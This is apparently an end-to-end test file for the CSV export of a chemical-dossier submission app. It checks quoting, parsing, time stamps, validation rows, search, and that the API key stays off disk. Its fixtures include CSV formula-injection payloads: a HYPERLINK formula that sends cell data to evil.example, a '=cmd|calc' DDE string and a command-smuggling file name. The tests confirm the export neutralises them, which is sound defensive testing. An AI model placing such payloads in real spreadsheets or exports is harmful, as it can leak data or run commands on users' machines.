// CSV export of a real flow (hostile names, validations from the sandbox) read back with two
// independent parsers (Python's csv module and csv-parse), and the API key nowhere on disk afterwards: not in the settings file, the SQLite files, the
// workflow state, the outbox or a CSV (the bytes are searched).
import { createWriteStream, readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writableSink } from '../../../src-main/ipc/text-sink';
import { DEMO_LEGAL_ENTITY, type Sandbox } from '../../../src-main/sandbox';
import type { Profile } from '../../../src-preload/contract';
import { parse as parseCsv } from 'csv-parse/sync';
import { buildPcnDossier, buildScipDossier, cleanupArchives } from '../../fixtures/archives';
import { failExportAt } from '../../fixtures/export-fault';
import { ctx, disposeApp, eventually, openApp, openSandbox, queue, sandboxProfile, target, unlockProduction, unwrap, type App } from './support/harness';
import { parseCsvWithPython } from './support/python-csv';

let sandbox: Sandbox;
let app: App;
let profile: Profile;
const le = { uuid: DEMO_LEGAL_ENTITY.leUuid, name: DEMO_LEGAL_ENTITY.name };
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1;"x"), "quoted"; semi';
const HOSTILE_FILE = '-2+3;cmd,"calc".i6z';

beforeAll(async () => {
  sandbox = await openSandbox({ repeatedDispatchRate: 0 });
  app = await openApp({});
  profile = await unlockProduction(app, await sandboxProfile(app, sandbox));
  const s = app.composed.services;
  const hostile = await buildPcnDossier({ legalEntity: le, dossierName: HOSTILE_NAME, fileName: HOSTILE_FILE, pcnNumber: null });
  const normal = await buildPcnDossier({
    legalEntity: le,
    fileName: 'normal.i6z',
    mixtureName: 'Lemon Degreaser',
    otherNames: [
      { type: 'trade name', name: 'CitraClean 5L, pro' },
      { type: 'trade name', name: '=cmd|calc' },
    ],
    marketCountries: ['FI', 'SE', 'EE'],
  });
  const chair = await buildScipDossier({ legalEntity: le, fileName: 'chair-scip.i6z', primaryArticleId: { type: 'catalogue number', value: 'DEMO-CHAIR-0001' } });
  const ids = await queue(app, profile, [hostile, normal, chair]);
  unwrap(await s.submitBatch({ target: target(profile), outboxIds: ids, timing: 'now' }, ctx));
  await app.composed.internals.idle();
  // The same dossier again while the first is pending or accepted: the sandbox fails it as a duplicate.
  // Pre-flight blocks these as duplicates now; the per-file override (with its reason) sends them anyway.
  const dupRefs: string[] = [];
  for (const p of [normal, chair]) dupRefs.push(unwrap(await s.registerFile({ path: p, fileName: p.split('/').pop()!, origin: 'picked' })).fileRef);
  const dup = unwrap(
    await s.queueDossiers(
      { target: target(profile), fileRefs: dupRefs, duplicateOverrides: dupRefs.map((fileRef) => ({ fileRef, reason: 'a duplicate on purpose, for the export test' })) },
      ctx,
    ),
  ).map((i) => i.id);
  unwrap(await s.submitBatch({ target: target(profile), outboxIds: dup, timing: 'now' }, ctx));
  await app.composed.internals.idle();
  await eventually(
    async () => {
      const c = unwrap(await s.historyCounts({ filter: { modeKinds: ['production'] } }, ctx));
      return c.total === 5 && c.byStatus.PENDING === 0 && app.composed.internals.ledger.listReportsDue().length === 0;
    },
    { step: () => s.syncNow({}, ctx) },
  );
});

afterAll(async () => {
  await disposeApp(app, [DEMO_LEGAL_ENTITY]);
  await sandbox.close();
  cleanupArchives();
});

async function exportTo(name: string, args: Parameters<App['composed']['services']['writeCsv']>[0]) {
  const path = join(app.dataDir, name);
  const sink = writableSink(createWriteStream(path));
  const result = unwrap(await app.composed.services.writeCsv(args, sink, `export-${name}`));
  return { path, bytes: readFileSync(path), rowCount: result.rowCount };
}

describe('CSV export', () => {
  it('leaves the connectivity test out unless the filter names that mode', async () => {
    const sort = { column: 'submittedAt' as const, direction: 'asc' as const };
    const plain = await exportTo('default.csv', { filter: { profileId: profile.id }, sort, layout: 'submissions', delimiter: ',' });
    expect(plain.rowCount).toBe(5);
    const asked = await exportTo('dummies.csv', { filter: { profileId: profile.id, modeKinds: ['connectivity'] }, sort, layout: 'submissions', delimiter: ',' });
    expect(asked.rowCount).toBe(1);
    const { rows } = parseCsvWithPython(asked.bytes, ',');
    expect(rows.slice(1).map((r) => r.join(' '))).toEqual([expect.stringMatching(/connectivity/i)]);
    const counts = unwrap(await app.composed.services.historyCounts({ filter: { profileId: profile.id } }, ctx));
    expect(counts).toMatchObject({ total: 5, connectivityTests: 1 });
  });

  it('submissions layout, semicolon: BOM, quoting and formula neutralisation survive an independent parser', async () => {
    const { bytes, rowCount } = await exportTo('subs.csv', {
      filter: { profileId: profile.id, modeKinds: ['production'] },
      sort: { column: 'submittedAt', direction: 'asc' },
      layout: 'submissions',
      delimiter: ';',
      timeZone: 'Europe/Helsinki',
    });
    expect(rowCount).toBe(5);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const { rows } = parseCsvWithPython(bytes, ';');
    // csv-parse, strict about column counts and quotes, reads the very same records.
    expect(parseCsv(bytes, { bom: true, delimiter: ';', relaxColumnCount: false })).toEqual(rows);
    const [header, ...data] = rows as [string[], ...string[][]];
    const col = (name: string) => header.indexOf(name);
    expect(data).toHaveLength(5);
    const hostile = data.find((r) => r[col('File name')] === `'${HOSTILE_FILE}`)!;
    expect(hostile).toBeDefined();
    expect(hostile[col('Dossier name')]).toBe(`'${HOSTILE_NAME}`);
    expect(hostile[col('WARN count')]).toBe('1');
    expect(hostile[col('Validation codes')]).toBe('PCN_NUMBER_MISSING');
    expect(hostile[col('Legal entity')]).toBe(DEMO_LEGAL_ENTITY.name);
    expect(hostile[col('Mode')]).toBe('PRODUCTION');
    expect(hostile[col('Dispatched to')]).toMatch(/^[A-Z]{2}(, [A-Z]{2})*$/);
    const failed = data.filter((r) => r[col('Status code')] === 'VALIDATION_FAILED');
    expect(failed).toHaveLength(2);
    for (const f of failed) {
      expect(f[col('Status')]).toBe('Failed');
      expect(f[col('Validation codes')]).toBe('DUPLICATE');
    }
    // The failed SCIP submission has no SCIP number: the article identifier stays in its own column.
    const scip = data.filter((r) => r[col('Kind')] === 'SCIP');
    expect(scip.map((r) => r[col('Status')]).sort()).toEqual(['Failed', 'Passed']);
    const failedScip = scip.find((r) => r[col('Status')] === 'Failed')!;
    const passedScip = scip.find((r) => r[col('Status')] === 'Passed')!;
    expect(failedScip[col('PCN/SCIP number')]).toBe('');
    expect(failedScip[col('SCIP article identifier')]).toBe('DEMO-CHAIR-0001');
    expect(passedScip[col('PCN/SCIP number')]).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-/);
    expect(data.map((r) => r[col('Status')]).every((v) => ['Passed', 'Failed'].includes(v!))).toBe(true);

    // What each dossier is about, in its own columns: the mixture/article name, trade names split by
    // "; " (a name may hold a comma), the PCN market countries; a formula-like trade name neutralised.
    expect(header.slice(col('Dossier name'), col('Dossier name') + 4)).toEqual(['Dossier name', 'Subject name', 'Trade names', 'Market countries']);
    const lemon = data.filter((r) => r[col('File name')] === 'normal.i6z');
    expect(lemon).toHaveLength(2);
    for (const r of lemon) {
      expect(r[col('Subject name')]).toBe('Lemon Degreaser');
      expect(r[col('Trade names')]).toBe('CitraClean 5L, pro; =cmd|calc');
      expect(r[col('Market countries')]).toBe('FI, SE, EE');
    }
    expect(hostile[col('Subject name')]).toBe('Demo all-purpose cleaner');
    expect(hostile[col('Trade names')]).toBe('');
    for (const r of scip) {
      expect(r[col('Subject name')]).toBe('Demo office chair');
      expect(r[col('Market countries')]).toBe('');
    }

    // Times as Excel reads them, in the zone the header names, equal to the ledger's instants.
    expect(header).toContain('Submitted at (Europe/Helsinki)');
    expect(header.some((h) => h === 'Submitted at')).toBe(false);
    const ledgerTimes = [...app.composed.internals.ledger.exportSubmissions({ modeKinds: ['production'] })].map((x) => x.submittedAt);
    for (const r of data) {
      const stamp = r[col('Submitted at (Europe/Helsinki)')]!;
      expect(stamp).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
      const asUtc = new Date(`${stamp.replace(' ', 'T')}Z`).getTime();
      // Helsinki is 2 or 3 hours ahead of UTC: the stamp is one of the ledger's instants shifted so.
      expect(ledgerTimes.some((t) => [2, 3].some((h) => Math.abs(asUtc - h * 3_600_000 - Date.parse(t)) < 1000))).toBe(true);
      expect(r[col('Final at (Europe/Helsinki)')]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
    }
    for (const r of data) {
      expect(r[col('Submission number')]).toMatch(/^[A-Z]{3}\d{6}-\d{2}$/);
      expect(r[col('Report URL')]).toContain(sandbox.url);
      for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    // Progress only: the end ('done' / 'failed') is the host's to announce, once the file is in place.
    const progress = app.recorded.of('exportProgress').filter((e) => e.exportId === 'export-subs.csv');
    expect(progress.map((e) => e.phase)).toEqual(progress.map(() => 'running'));
    expect(progress.at(-1)).toMatchObject({ phase: 'running', rowsWritten: 5 });
  });

  it('a source that fails mid-way leaves the sink to the host: a download must not end as if complete', async () => {
    // Closing the sink here ended a web download normally: the browser kept the rows so far as a
    // whole file while the page said "failed". Fault injected into the real ledger's export iterator.
    const restore = failExportAt(app.composed.internals.ledger, 3);
    const calls: string[] = [];
    const sink = { write: async () => void calls.push('write'), close: async () => void calls.push('close') };
    try {
      const r = await app.composed.services.writeCsv({ filter: {}, layout: 'submissions', delimiter: ',' }, sink, 'export-broken');
      expect(r.ok).toBe(false);
      expect(r.ok ? '' : r.error.message).toMatch(/^The export stopped/);
      expect(calls).not.toContain('close');
      expect(app.recorded.of('exportProgress').filter((e) => e.exportId === 'export-broken' && e.phase !== 'running')).toEqual([]);
    } finally {
      restore();
    }
  });

  it('without a separator or zone from the renderer: the setting, else the host locale; UTC named in the header', async () => {
    unwrap(await app.composed.services.updateSettings({ patch: { csvDelimiter: ';', displayTimeZone: 'UTC' } }, ctx));
    const { bytes } = await exportTo('setting.csv', { filter: { modeKinds: ['production'] }, layout: 'submissions' });
    const rows = parseCsv(bytes, { bom: true, delimiter: ';' }) as string[][];
    expect(rows[0]).toContain('Submitted at (UTC)');
    expect(rows).toHaveLength(6);
    unwrap(await app.composed.services.updateSettings({ patch: { csvDelimiter: null, displayTimeZone: 'local' } }, ctx));
  });

  it('validations layout, comma: one row per validation, one empty row for a submission without any, with the dossier name', async () => {
    const { bytes, rowCount } = await exportTo('vals.csv', { filter: { modeKinds: ['production'] }, layout: 'validations', delimiter: ',', timeZone: 'UTC' });
    const { rows } = parseCsvWithPython(bytes, ',');
    expect(parseCsv(bytes, { bom: true, delimiter: ',' })).toEqual(rows);
    const [header, ...data] = rows as [string[], ...string[][]];
    expect(rowCount).toBe(data.length);
    const col = (name: string) => header.indexOf(name);
    const byCode = data.map((r) => r[col('Code')]).sort();
    expect(byCode).toEqual(['', '', 'DUPLICATE', 'DUPLICATE', 'PCN_NUMBER_MISSING']);
    const dup = data.find((r) => r[col('Code')] === 'DUPLICATE')!;
    expect(dup[col('Level')]).toBe('FAIL');
    expect(dup[col('Validation #')]).toBe('1');
    expect(dup[col('Context')]).toMatch(/duplicate of submission/);
    expect(dup[col('Status')]).toBe('Failed');
    expect(data.find((r) => r[col('Code')] === 'PCN_NUMBER_MISSING')![col('Dossier name')]).toBe(`'${HOSTILE_NAME}`);
    // The per-finding layout carries the product name too.
    expect(data.find((r) => r[col('Code')] === 'PCN_NUMBER_MISSING')![col('Subject name')]).toBe('Demo all-purpose cleaner');
    expect(data.filter((r) => r[col('Subject name')] === 'Lemon Degreaser').map((r) => r[col('Code')]).sort()).toEqual(['', 'DUPLICATE']);
  });

  it('history search finds a submission by its subject or trade name; the detail view shows the facts', async () => {
    const s = app.composed.services;
    const search = async (text: string) =>
      unwrap(
        await s.queryHistory(
          { filter: { text }, sort: { column: 'submittedAt', direction: 'asc' }, page: { kind: 'offset', offset: 0, limit: 50 } },
          ctx,
        ),
      ).rows;
    // Neither the file names nor IUCLID's dossier names hold these words: only the facts do.
    expect((await search('citraclean')).map((r) => r.fileName)).toEqual(['normal.i6z', 'normal.i6z']);
    expect((await search('lemon degr')).map((r) => r.fileName)).toEqual(['normal.i6z', 'normal.i6z']);
    expect((await search('office chair')).map((r) => r.fileName)).toEqual(['chair-scip.i6z', 'chair-scip.i6z']);
    expect(await search('citraclean chair')).toEqual([]);
    const story = unwrap(await s.getSubmissionStory({ submissionId: (await search('citraclean'))[0]!.id }, ctx));
    expect(story.dossierFacts).toEqual({ subjectName: 'Lemon Degreaser', tradeNames: ['CitraClean 5L, pro', '=cmd|calc'], marketCountries: ['FI', 'SE', 'EE'] });
  });

  it('suggests a dated file name', () => {
    expect(app.composed.services.exportFileName({ filter: {}, layout: 'validations' })).toMatch(/^echa-validations-\d{4}-\d{2}-\d{2}\.csv$/);
  });
});

describe('no API key on disk after a full flow', () => {
  it('the key (as text and as decoded bytes) appears in no file of the data folder', async () => {
    const needles = [Buffer.from(DEMO_LEGAL_ENTITY.apiKey, 'utf8'), Buffer.from(DEMO_LEGAL_ENTITY.apiKey, 'base64url')];
    const files: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const p = join(dir, name);
        if (statSync(p).isDirectory()) walk(p);
        else files.push(p);
      }
    };
    walk(app.dataDir);
    const names = files.map((f) => f.slice(app.dataDir.length + 1));
    expect(names).toEqual(expect.arrayContaining(['settings.json', 'ledger.sqlite', 'workflow-state.json', 'subs.csv', 'vals.csv']));
    for (const f of files) {
      const bytes = readFileSync(f);
      for (const needle of needles) expect(bytes.includes(needle), `${f} holds the key`).toBe(false);
    }
    // The keychain does hold it (that is where it belongs).
    await expect(app.composed.services.hasKey({ profileId: profile.id }, ctx)).resolves.toMatchObject({ ok: true, value: { hasKey: true } });
  });
});
